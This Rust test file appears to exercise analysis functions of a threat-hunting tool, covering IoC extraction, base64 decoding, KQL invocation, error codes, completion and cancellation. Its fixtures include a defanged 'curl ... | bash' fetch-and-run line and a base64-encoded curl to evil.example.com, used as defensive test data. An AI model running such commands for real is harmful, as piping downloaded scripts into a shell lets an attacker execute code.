//! Analysis functions through a session: listed, called, in KQL, stopped.

use std::cell::{Cell, RefCell};
use std::future::Future;
use std::pin::Pin;
use std::rc::Rc;

use huntlet_report::{AnalysisInput, ErrorInfo, Event, Reply, Request};
use huntlet_session::{Answer, Platform, Session};
use huntlet_table::Table;
use serde_json::{Value, json};

/// A clock that goes on by 30 milliseconds with every look, so that every checkpoint pauses.
#[derive(Default)]
struct TestPlatform {
    looks: Cell<f64>,
}

impl Platform for TestPlatform {
    fn now(&self) -> i64 {
        huntlet_ticks::parse_datetime("2026-10-15T00:00:00Z").unwrap()
    }

    fn monotonic_ms(&self) -> f64 {
        self.looks.set(self.looks.get() + 30.0);
        self.looks.get()
    }

    fn pause(&self) -> Pin<Box<dyn Future<Output = ()> + '_>> {
        Box::pin(std::future::ready(()))
    }
}

const COMMANDS: &str =
    "Computer,CommandLine\na,curl hxxp://bad[.]example[.]com/x.sh | bash\nb,ping 10.0.0.1\nb,\n";

fn session() -> Session {
    let session = Session::new(Rc::new(TestPlatform::default()));
    let add = Request::AddTable { name: "Commands".into(), format: None };
    session.answer(add, Some(COMMANDS.as_bytes().to_vec())).unwrap();
    session
}

fn run(session: &Session, request: Request, bytes: Option<Vec<u8>>) -> Result<Answer, ErrorInfo> {
    pollster::block_on(session.run(1, request, bytes, Rc::new(|_| ())))
}

fn analyze(name: &str, input: AnalysisInput, arguments: Value) -> Request {
    let Value::Object(arguments) = arguments else { panic!("arguments are an object") };
    Request::Analyze { name: name.into(), input, arguments }
}

fn commands() -> AnalysisInput {
    AnalysisInput::Table { handle: "table:Commands".into() }
}

fn texts(table: &Table, column: &str) -> Vec<String> {
    table.column(column).unwrap().str().unwrap().iter().map(|cell| cell.unwrap_or("").to_owned()).collect()
}

/// The main table of an answer, and its text.
fn main_table(session: &Session, answer: Answer) -> (Table, Option<String>) {
    match answer.reply {
        Reply::Analysis { tables, text } => (session.table(&tables[0].info.handle).unwrap(), text),
        other => panic!("an analysis was due, not {other:?}"),
    }
}

fn query(session: &Session, text: &str) -> Result<Table, ErrorInfo> {
    match run(
        session,
        Request::Query { text: text.into(), timespan: None, source: None, fresh: false },
        None,
    )?
    .reply
    {
        Reply::Query { table, .. } => session.table(&table.handle),
        other => panic!("a result was due, not {other:?}"),
    }
}

#[test]
fn every_function_is_listed() {
    let Reply::Analytics { functions } = session().answer(Request::Analytics, None).unwrap().reply else {
        panic!("functions were due");
    };
    let extract = functions.iter().find(|function| function.name == "ioc_extract").unwrap();
    assert_eq!(
        (extract.input.as_slice(), extract.kql),
        (["text".to_owned(), "table".to_owned()].as_slice(), true)
    );
    let columns = &extract.parameters[0];
    assert_eq!(
        (columns.name.as_str(), columns.kind.as_str(), columns.required),
        ("columns", "columns", true)
    );
    assert_eq!(functions.len(), huntlet_analytics::functions().len());
}

#[test]
fn functions_run_on_tables_texts_and_bytes() {
    let session = session();
    let columns = json!({"columns": ["CommandLine"]});
    let answer = run(&session, analyze("ioc_extract", commands(), columns.clone()), None).unwrap();
    let Reply::Analysis { tables, .. } = &answer.reply else { panic!("an analysis was due") };
    assert_eq!(tables[0].provenance.query_name.as_deref(), Some("ioc_extract"));
    assert_eq!(tables[0].provenance.parameters, *columns.as_object().unwrap());
    let (table, _) = main_table(&session, answer);
    assert_eq!(texts(&table, "Observable"), ["bad.example.com", "http://bad.example.com/x.sh", "10.0.0.1"]);

    let text = AnalysisInput::Text { text: "run Y3VybCBodHRwOi8vZXZpbC5leGFtcGxlLmNvbS9hLnNo".into() };
    let (_, text) =
        main_table(&session, run(&session, analyze("base64_unpack", text, json!({})), None).unwrap());
    assert!(text.unwrap().contains(">curl http://evil.example.com/a.sh</decoded>"));

    let arrow =
        huntlet_table::write::arrow(&query(&session, "Commands | where Computer == 'b'").unwrap()).unwrap();
    let request = analyze("ioc_extract", AnalysisInput::Bytes, columns);
    let (table, _) = main_table(&session, run(&session, request, Some(arrow)).unwrap());
    assert_eq!(texts(&table, "Observable"), ["10.0.0.1"]);
}

#[test]
fn mistakes_are_told() {
    let session = session();
    let failure = |request: Request| run(&session, request, None).unwrap_err();
    let error = failure(analyze("nope", commands(), json!({})));
    assert_eq!((error.code.as_str(), error.message.as_str()), ("AN0101", "There is no function `nope`."));
    assert_eq!(failure(analyze("ioc_extract", commands(), json!({}))).code, "AN0102");
    assert_eq!(failure(analyze("ioc_extract", commands(), json!({"columns": 7}))).code, "AN0103");
    assert_eq!(
        failure(analyze("ioc_extract", AnalysisInput::Table { handle: "table:x".into() }, json!({}))).code,
        "SE0101"
    );
    assert_eq!(failure(analyze("ioc_extract", AnalysisInput::Bytes, json!({"columns": "a"}))).code, "SE0701");
}

#[test]
fn kql_hands_rows_to_functions() {
    let session = session();
    let table = query(&session, "Commands | invoke ioc_extract(CommandLine, Computer, include_paths = false) | where IoCType == 'ipv4'").unwrap();
    assert_eq!(texts(&table, "Observable"), ["10.0.0.1"]);
    let table = query(
        &session,
        "let t = dynamic(['url']); Commands | invoke ioc_extract(CommandLine, ioc_types = t) | project Raw",
    )
    .unwrap();
    assert_eq!(texts(&table, "Raw"), ["hxxp://bad[.]example[.]com/x.sh"]);
    let table =
        query(&session, "Commands | invoke get_ip_type('CommandLine') | summarize n = count() by ip_type")
            .unwrap();
    assert_eq!(texts(&table, "ip_type"), ["Unspecified"]);
    // a function of the query's own hides the host's
    let own = "let ioc_extract = (T: (Computer: string)) { T | take 1 }; Commands | invoke ioc_extract() | project Computer";
    assert_eq!(texts(&query(&session, own).unwrap(), "Computer"), ["a"]);
    let failure = |text: &str| {
        let error = query(&session, text).unwrap_err();
        (error.code, error.message)
    };
    let of = |code: &str, message: &str| (code.to_owned(), message.to_owned());
    assert_eq!(
        failure("Commands | invoke ioc_extract(CommandLin)"),
        of("KQ0201", "there is no column `CommandLin`")
    );
    assert_eq!(
        failure("Commands | invoke ioc_extrac(CommandLine)"),
        of("KQ0203", "there is no function `ioc_extrac` that takes a table")
    );
    assert_eq!(
        failure("Commands | invoke ioc_extract(CommandLine, colour = 1)"),
        of("KQ0302", "`ioc_extract` has no parameter `colour`")
    );
    assert!(failure("Commands | invoke ioc_extract()").1.starts_with("`ioc_extract` needs `columns`."));
    assert!(
        failure("Commands | invoke ioc_extract(CommandLine, ioc_types = 'x')")
            .1
            .starts_with("`ioc_types` has no type `x`.")
    );
}

#[test]
fn an_editor_is_offered_the_functions() {
    let session = session();
    let text = "Commands | invoke ioc";
    let request = Request::Complete { text: text.into(), offset: text.len() as u32 };
    let Reply::Complete { completion } = session.answer(request, None).unwrap().reply else {
        panic!("offers were due");
    };
    let offer = completion.items.iter().find(|item| item.label == "ioc_extract").unwrap();
    assert!(offer.detail.starts_with("ioc_extract(columns, ioc_types"), "{}", offer.detail);
    assert!(offer.help.starts_with("Finds indicators"));
}

#[test]
fn work_tells_how_far_it_is_and_can_be_stopped() {
    let session = Rc::new(session());
    let row = |row| format!("a,ping host{row}.example.com and more words");
    let rows: Vec<String> = (0..30_000).map(row).collect();
    let add = Request::AddTable { name: "Many".into(), format: None };
    session.answer(add, Some(format!("Computer,CommandLine\n{}", rows.join("\n")).into_bytes())).unwrap();
    let request = || {
        analyze(
            "ioc_extract",
            AnalysisInput::Table { handle: "table:Many".into() },
            json!({"columns": ["CommandLine"]}),
        )
    };
    let heard = Rc::new(RefCell::new(Vec::new()));
    let listener = {
        let heard = Rc::clone(&heard);
        Rc::new(move |event: Event| {
            if let Event::Progress { done, .. } = event {
                heard.borrow_mut().push(done);
            }
        })
    };
    assert!(pollster::block_on(session.run(7, request(), None, listener)).is_ok());
    let heard = heard.borrow();
    assert!(heard.len() > 3 && heard.is_sorted() && heard.last() == Some(&100), "{heard:?}");
    let stopper = {
        let session = Rc::clone(&session);
        Rc::new(move |_: Event| session.cancel(8))
    };
    let error = pollster::block_on(session.run(8, request(), None, stopper)).unwrap_err();
    assert_eq!(error.code, "ABORT");
}
